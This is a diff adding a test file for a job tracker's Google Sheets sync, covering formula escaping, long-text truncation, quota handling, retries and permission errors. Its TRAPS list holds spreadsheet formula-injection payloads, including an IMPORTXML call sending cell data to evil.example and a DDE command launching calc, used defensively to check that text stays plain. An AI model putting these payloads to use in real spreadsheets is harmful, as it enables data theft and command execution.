@@ -1,0 +1,124 @@
+import type { Job } from "@peregrine/core";
+import { afterEach, beforeEach, expect, test } from "vitest";
+import { Home } from "./testing/home.ts";
+
+const job: Job = { title: "Engineer", url: "https://example.com/jobs/7", status: "applied" };
+const jobsUpTo = (count: number): Job[] =>
+  Array.from({ length: count }, (_, n) => ({
+    title: `Job ${n}`,
+    url: `https://x.example/${n}`,
+    status: "applied",
+  }));
+
+/** What a spreadsheet would take for something else, or worse, if it were typed. */
+const TRAPS = [
+  "=1+1",
+  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
+  '=HYPERLINK("https://evil.example","Apply")',
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)",
+  "'quoted",
+  "1-2",
+  "3/4",
+  "007",
+  "1e5",
+  "TRUE",
+  "2026-10-01",
+  "50 %",
+  "£5",
+];
+
+let home: Home;
+let id: string;
+
+beforeEach(async () => {
+  home = await Home.open();
+  id = home.google.person.createSpreadsheet("Search", { Jobs: [] }).id;
+});
+
+afterEach(() => home[Symbol.asyncDispose]());
+
+const sync = (jobs: readonly Job[], also: object = {}) => home.sync({ spreadsheet_id: id }, jobs, also);
+const rows = () => home.google.rows(id, "Jobs");
+
+test("no text of a job becomes a formula, a date, a number, or another text", async () => {
+  const jobs = TRAPS.map((text, n) => ({
+    ...job,
+    url: `${job.url}/${n}`,
+    title: text,
+    company: text,
+    salary: text,
+  }));
+  await sync(jobs);
+  await sync(jobs.map((one) => ({ ...one, location: one.title })));
+  const cells = home.google.cells(id, "Jobs").slice(1);
+  expect(cells).toHaveLength(TRAPS.length);
+  for (const [n, row] of cells.entries()) {
+    const asText = row.filter((cell) => cell && "stringValue" in cell && cell.stringValue === TRAPS[n]);
+    expect(asText, TRAPS[n]).toHaveLength(4);
+    expect(row.some((cell) => cell && "formulaValue" in cell)).toBe(false);
+  }
+});
+
+test("a text longer than a cell holds is cut, not through a character, and not sent again", async () => {
+  const long = [{ ...job, title: "😀".repeat(30_000) }];
+  expect((await sync(long)).counts).toMatchObject({ created: 1, failed: 0 });
+  const title = String(rows()[0]?.["Job Title"]);
+  expect([title.length, title.isWellFormed(), title.endsWith("😀…")]).toEqual([49_999, true, true]);
+  expect((await sync(long)).counts).toMatchObject({ unchanged: 1 });
+});
+
+test("the quotas are waited for, to the edge of the minute, and everything arrives", async () => {
+  await using tight = await Home.open({ quota: { reads: 3, writes: 3 } });
+  const { id } = tight.google.person.createSpreadsheet("Search", { Jobs: [] });
+  const began = tight.clock.now();
+  let report = await tight.sync({ spreadsheet_id: id }, jobsUpTo(900));
+  for (let runs = 1; report.outcome === "deferred" && runs < 10; runs += 1) {
+    await tight.clock.advance(Date.parse(report.resumeAt ?? "") - tight.clock.now() + 1);
+    report = await tight.sync({ spreadsheet_id: id }, jobsUpTo(900));
+  }
+  expect(report.outcome).toBe("done");
+  expect(tight.google.rows(id, "Jobs")).toHaveLength(900);
+  expect(tight.clock.now() - began).toBeGreaterThan(120_000);
+  const refused = tight.google.calls.filter(({ status }) => status === 429);
+  expect(refused.length).toBeLessThan(tight.google.calls.length / 2);
+});
+
+test("new rows whose answer was lost are looked for, and not added again", async () => {
+  home.google.failAfter({ path: /:batchUpdate$/, nth: 2 }, 503);
+  expect((await sync(jobsUpTo(5))).counts).toMatchObject({ created: 5, failed: 0 });
+  expect(rows().map((row) => row["Job Title"])).toEqual(jobsUpTo(5).map(({ title }) => title));
+});
+
+test("a token that ends in mid-run is renewed once, and nothing is doubled", async () => {
+  home.google.before({ path: /:batchUpdate$/, nth: 2 }, () => home.google.expireTokens());
+  expect((await sync(jobsUpTo(5))).counts).toMatchObject({ created: 5 });
+  expect([rows().length, home.google.tokenRequests]).toEqual([5, 2]);
+});
+
+test("a tab in which the jobs' rows are protected says so", async () => {
+  await sync(jobsUpTo(2));
+  home.google.person.protectRows(id, "Jobs", 0, 50);
+  const report = await sync(jobsUpTo(2).map((one) => ({ ...one, status: "offer" })));
+  expect([report.outcome, report.failure]).toEqual([
+    "stopped",
+    expect.objectContaining({
+      code: "permission",
+      hint: expect.stringContaining("Protect sheets and ranges"),
+    }),
+  ]);
+});
+
+test("who may only read is told with the first write, and asked to be made an Editor", async () => {
+  home.google.person.share(id, "reader");
+  const report = await sync(jobsUpTo(2));
+  expect([report.outcome, report.failure]).toEqual([
+    "stopped",
+    expect.objectContaining({
+      code: "permission",
+      field: "spreadsheet_id",
+      hint: expect.stringContaining("Editor"),
+    }),
+  ]);
+});
